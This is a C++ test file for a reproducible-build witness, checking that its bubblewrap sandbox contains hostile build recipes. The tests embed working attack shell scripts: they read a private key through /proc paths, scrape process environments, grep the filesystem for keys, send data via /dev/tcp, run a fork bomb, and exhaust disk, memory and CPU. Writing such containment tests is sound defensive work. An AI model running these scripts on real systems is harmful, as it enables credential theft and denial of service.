// Hostile recipes through the whole rebuild path: a real git repository
// whose build script attacks the witness, fetched and checked out by
// GitFetcher, run by a Rebuilder in the real bubblewrap sandbox, and
// attested. Each attack must be contained: the verdict is FAILED (the
// recipe could not do what it wanted, so it could not build), the host's
// files and network listener are untouched, and the witness's rebuild key
// appears in no report, summary or attestation.
//
// The key file and the state directory are deliberately readable by
// everyone here, so that only the sandbox (not file permissions) keeps a
// build away from them.

#include <dirent.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

#include <memory>
#include <string>
#include <vector>

#include "absl/strings/match.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_replace.h"
#include "absl/strings/str_split.h"
#include "base/file.h"
#include "crypto/dsse.h"
#include "crypto/keys.h"
#include "crypto/signer.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "statement/attestation.h"
#include "witness/files.h"
#include "witness/git.h"
#include "witness/rebuild.h"
#include "witness/rebuild_testing.h"
#include "witness/sandbox.h"

namespace refsum::witness {
namespace {

using statement::Verdict;
using ::testing::HasSubstr;
using ::testing::Not;

constexpr char kReportUrl[] = "https://witness.example/reports/";
// Set in the witness's own environment: a build must not see it.
constexpr char kSecretVariable[] = "REFSUM_HOSTILE_TEST_SECRET";

class HostileRecipeTest : public ::testing::Test {
 protected:
  void SetUp() override {
    const char* tmp = getenv("TEST_TMPDIR");
    root_ = absl::StrCat(tmp != nullptr ? tmp : "/tmp", "/hostile-XXXXXX");
    ASSERT_NE(mkdtemp(root_.data()), nullptr);
    ASSERT_EQ(chmod(root_.c_str(), 0755), 0);
    state_dir_ = root_ + "/state";
    ASSERT_TRUE(MakeDirectories(state_dir_, 0755).ok());

    absl::StatusOr<crypto::PrivateKey> key =
        crypto::PrivateKey::Generate(crypto::KeyType::kEd25519);
    ASSERT_TRUE(key.ok());
    absl::StatusOr<std::string> pem = key->ToPem();
    ASSERT_TRUE(pem.ok());
    key_pem_ = *pem;
    key_path_ = state_dir_ + "/rebuild.key";
    ASSERT_TRUE(WriteFileAtomically(key_path_, key_pem_, 0644).ok());
    // The base64 body of the PEM, one line at a time: any of them in a
    // report would be a leak.
    for (absl::string_view line : absl::StrSplit(key_pem_, '\n')) {
      if (!line.empty() && !absl::StartsWith(line, "-----")) {
        key_lines_.emplace_back(line);
      }
    }
    ASSERT_FALSE(key_lines_.empty());
    setenv(kSecretVariable, key_lines_[0].c_str(), 1);

    absl::StatusOr<std::unique_ptr<crypto::Signer>> signer =
        crypto::NewSigner(*key);
    ASSERT_TRUE(signer.ok());
    GitOptions git_options;
    git_options.cache_dir = state_dir_ + "/git";
    git_ = std::make_unique<GitFetcher>(git_options);
    sandbox_options_.max_processes = 64;
    sandbox_options_.max_disk_bytes = 16 << 20;
    options_.name = "witness.example/hostile";
    options_.signer = std::move(*signer);
    options_.work_dir = state_dir_ + "/builds";
    options_.reports_dir = state_dir_ + "/reports";
    options_.report_url = kReportUrl;
    // Generous for an honest build, so that only the attacks hit them; the
    // CPU test lowers the wall time.
    options_.limits.wall_time = absl::Minutes(5);
    options_.limits.memory_bytes = uint64_t{256} << 20;
    options_.limits.output_bytes = uint64_t{16} << 20;
    scope_.repository_prefix = "file://";
    scope_.recipe = "sh hostile.sh && sh build.sh";
    host_canary_ = absl::StrCat("/tmp/refsum-hostile-", getpid());
  }

  void TearDown() override {
    unsetenv(kSecretVariable);
    unlink(host_canary_.c_str());
    EXPECT_TRUE(RemoveTree(root_).ok());
  }

  // Commits the honest project plus `script` as hostile.sh, claims it as
  // its vendor would, rebuilds the claim with scope_'s recipe and returns
  // the outcome after checking that nothing of the key leaked into it.
  RebuildOutcome Attack(const std::string& name, const std::string& script) {
    repository_ = std::make_unique<TestRepository>(root_ + "/" + name);
    CommitProject(*repository_, ProjectKind::kReproducible);
    repository_->Write("hostile.sh", script);
    const std::string commit = repository_->Commit("build it");
    const std::string vendor_out = root_ + "/" + name + "-vendor";
    EXPECT_TRUE(MakeDirectories(vendor_out, 0755).ok());
    absl::StatusOr<statement::Claim> claim =
        VendorClaim(*repository_, commit, vendor_out);
    EXPECT_TRUE(claim.ok()) << claim.status();
    if (!claim.ok()) return {};
    LoggedClaim logged;
    logged.ref = {"log.example/hostile", 3, std::string(64, 'a')};
    logged.claim = *claim;

    Sandbox sandbox(sandbox_options_);
    Rebuilder rebuilder(options_, &sandbox, git_.get());
    absl::StatusOr<RebuildOutcome> outcome =
        rebuilder.Rebuild(logged, scope_, nullptr);
    EXPECT_TRUE(outcome.ok()) << outcome.status();
    if (!outcome.ok()) return {};
    report_ = ReadReport(outcome->attestation);
    ExpectNoKeyIn(report_, "the report");
    ExpectNoKeyIn(outcome->summary, "the summary");
    ExpectNoKeyIn(outcome->envelope_json, "the attestation");
    // Reports and everything else the witness keeps.
    absl::StatusOr<std::vector<std::string>> reports =
        ListDirectory(options_.reports_dir);
    if (reports.ok()) {
      for (const std::string& file : *reports) {
        absl::StatusOr<std::string> text =
            ReadFile(options_.reports_dir + "/" + file);
        if (text.ok()) ExpectNoKeyIn(*text, file);
      }
    }
    // The host's repository is as it was committed.
    EXPECT_EQ(repository_->Git({"status", "--porcelain"}), "");
    // Nothing appeared on the host.
    struct stat st;
    EXPECT_NE(stat(host_canary_.c_str(), &st), 0) << host_canary_;
    EXPECT_NE(stat((state_dir_ + "/escape").c_str(), &st), 0);
    EXPECT_NE(stat((root_ + "/escape").c_str(), &st), 0);
    EXPECT_NE(stat((repository_->path() + "/escape").c_str(), &st), 0);
    // The key is intact, and the builds are cleaned up.
    EXPECT_EQ(ReadFile(key_path_).value_or(""), key_pem_);
    absl::StatusOr<uint64_t> left = TreeSize(options_.work_dir);
    EXPECT_TRUE(left.ok() && *left == 0);
    return *std::move(outcome);
  }

  std::string ReadReport(const statement::RebuildAttestation& attestation) {
    if (!attestation.report.has_value()) return "";
    const std::string& uri = attestation.report->uri;
    absl::StatusOr<std::string> report = ReadFile(
        options_.reports_dir + "/" + uri.substr(sizeof(kReportUrl) - 1));
    EXPECT_TRUE(report.ok()) << report.status();
    return report.ok() ? *report : "";
  }

  void ExpectNoKeyIn(const std::string& text, absl::string_view where) {
    // JSON may escape what a build printed; undo the usual escapes.
    const std::string plain = absl::StrReplaceAll(
        text, {{"\\n", "\n"}, {"\\/", "/"}, {"\\u002b", "+"}});
    for (const std::string& line : key_lines_) {
      EXPECT_THAT(plain, Not(HasSubstr(line))) << "the key leaked into "
                                               << where;
    }
  }

  static absl::StatusOr<std::vector<std::string>> ListDirectory(
      const std::string& dir) {
    std::vector<std::string> names;
    DIR* handle = opendir(dir.c_str());
    if (handle == nullptr) return absl::NotFoundError(dir);
    while (const struct dirent* entry = readdir(handle)) {
      const std::string name = entry->d_name;
      if (name != "." && name != "..") names.push_back(name);
    }
    closedir(handle);
    return names;
  }

  void ExpectFailed(const RebuildOutcome& outcome,
                    absl::string_view because) {
    EXPECT_EQ(outcome.attestation.verdict, Verdict::kFailed)
        << outcome.summary << "\n"
        << report_;
    EXPECT_THAT(outcome.summary, HasSubstr(because)) << report_;
  }

  std::string root_;
  std::string state_dir_;
  std::string key_path_;
  std::string key_pem_;
  std::vector<std::string> key_lines_;
  std::string host_canary_;
  std::unique_ptr<GitFetcher> git_;
  SandboxOptions sandbox_options_;
  RebuilderOptions options_;
  ScopeConfig scope_;
  std::unique_ptr<TestRepository> repository_;
  std::string report_;
};

// Every way a build might find the key: its absolute path, the roots of
// other processes through /proc (bubblewrap's, the parent's, init's), its
// own /proc entries, every environment it can see, and a search of the
// whole tree. Whatever it finds it prints (into the report's log tail) and
// puts in /out. It finds nothing and gives up: FAILED.
TEST_F(HostileRecipeTest, ReadingTheKeysFails) {
  const std::string script = absl::StrCat(
      "key=", key_path_, "\n",
      "for p in $key /proc/1/root$key /proc/$PPID/root$key "
      "/proc/self/root$key /proc/self/cwd/../..$key; do\n"
      "  cat $p && cat $p > /out/stolen\n"
      "done\n"
      "for e in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $e; done | "
      "grep -a ", kSecretVariable, " && echo env >> /out/stolen\n",
      "env\n",
      "grep -rasl 'PRIVATE KEY' / --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev "
      "--exclude-dir=usr 2>/dev/null | xargs -r cat\n"
      "ls -la /proc/*/fd/ 2>&1\n",
      "test -s /out/stolen || { echo 'no key found' >&2; exit 7; }\n");
  const RebuildOutcome outcome = Attack("keys", script);
  ExpectFailed(outcome, "exit code 7");
  EXPECT_THAT(report_, HasSubstr("no key found"));
}

// A connection to a listener on the host's loopback fails: the build has a
// network namespace of its own.
TEST_F(HostileRecipeTest, ReachingTheNetworkFails) {
  LoopbackListener listener;
  const int port = listener.port();
  const RebuildOutcome outcome = Attack(
      "network",
      absl::StrCat("set -e\n", "bash -c 'cat /etc/hostname; echo stolen > "
                               "/dev/tcp/127.0.0.1/",
                   port, "'\n"));
  ExpectFailed(outcome, "the recipe failed");
  EXPECT_FALSE(listener.ConnectionAttempted());
}

// Writes to the witness's state, to the repository the source came from
// and to the system fail; a write to the host's /tmp lands in the build's
// own tmpfs and never on the host (Attack checks). Any write that worked
// would let the build go on to MATCH.
TEST_F(HostileRecipeTest, WritingOutsideTheBuildFails) {
  const RebuildOutcome outcome = Attack(
      "writes", absl::StrCat("echo canary > ", host_canary_, "\n",
                             "for p in ", state_dir_,
                             "/escape ", root_, "/escape ", root_,
                             "/writes/escape /proc/1/root", state_dir_,
                             "/escape /usr/escape /escape; do\n"
                             "  if touch $p; then echo wrote $p; exit 0; fi\n"
                             "done\n"
                             "echo 'nowhere to write' >&2; exit 9\n"));
  ExpectFailed(outcome, "exit code 9");
  EXPECT_THAT(report_, HasSubstr("nowhere to write"));
}

// A fork bomb burns out against the process limit; the host can still
// start processes afterwards.
TEST_F(HostileRecipeTest, ForkBombIsContained) {
  const RebuildOutcome outcome =
      // The first shell stays until the bomb hits the process limit (see
      // sandbox_test.cc's kForkBomb), with builtins only.
      Attack("forkbomb",
             "bash -c 'b() { b | b & }; b 2>> /tmp/bomb; "
             "until read -r line < /tmp/bomb; do :; done; "
             "echo \"$line\" >&2'; exit 1\n");
  ExpectFailed(outcome, "the recipe failed");
  EXPECT_THAT(report_, HasSubstr("Resource temporarily unavailable"));
  EXPECT_EQ(system("true"), 0);
}

// Filling the disk through /src and /out is stopped at the disk limit.
TEST_F(HostileRecipeTest, FillingTheDiskIsStopped) {
  const RebuildOutcome outcome = Attack(
      "disk",
      "i=0; while true; do i=$((i+1)); "
      "head -c 1048576 /dev/urandom > /src/fill$i; "
      "head -c 1048576 /dev/urandom > /out/fill$i; done\n");
  ExpectFailed(outcome, "more than the disk limit");
}

// Allocating without end fails at the memory limit, in memory and in the
// tmpfs /tmp alike.
TEST_F(HostileRecipeTest, HoggingMemoryFails) {
  const RebuildOutcome outcome = Attack(
      "memory",
      "head -c 400000000 /dev/zero > /tmp/big || echo 'tmp is full' >&2\n"
      "awk 'BEGIN { s = \"x\"; while (1) s = s s }'\n");
  ExpectFailed(outcome, "the recipe failed");
  EXPECT_THAT(report_, HasSubstr("tmp is full"));
}

// Spinning forever (in a process of its own session, too) is killed at the
// wall time.
TEST_F(HostileRecipeTest, HoggingTheCpuTimesOut) {
  options_.limits.wall_time = absl::Seconds(3);
  const RebuildOutcome outcome = Attack(
      "cpu", "setsid sh -c 'while :; do :; done' & while :; do :; done\n");
  ExpectFailed(outcome, "timed out after 3s");
}

}  // namespace
}  // namespace refsum::witness
